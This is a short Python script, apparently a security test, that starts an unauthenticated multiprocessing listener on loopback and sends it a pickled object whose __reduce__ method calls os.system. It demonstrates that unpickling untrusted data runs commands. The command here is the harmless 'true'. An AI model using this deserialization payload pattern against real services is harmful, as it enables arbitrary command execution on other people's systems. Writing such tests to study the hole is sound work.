"""An unauthenticated listener on loopback that loads one hostile pickle. Ends when it was loaded."""

import os
import threading
from multiprocessing.connection import Client, Listener


class Payload:
    def __reduce__(self):
        return os.system, ("true",)


with Listener(("127.0.0.1", 0)) as listener:

    def serve():
        with listener.accept() as connection:
            connection.recv()

    server = threading.Thread(target=serve)
    server.start()
    with Client(listener.address) as client:
        client.send(Payload())
        server.join()
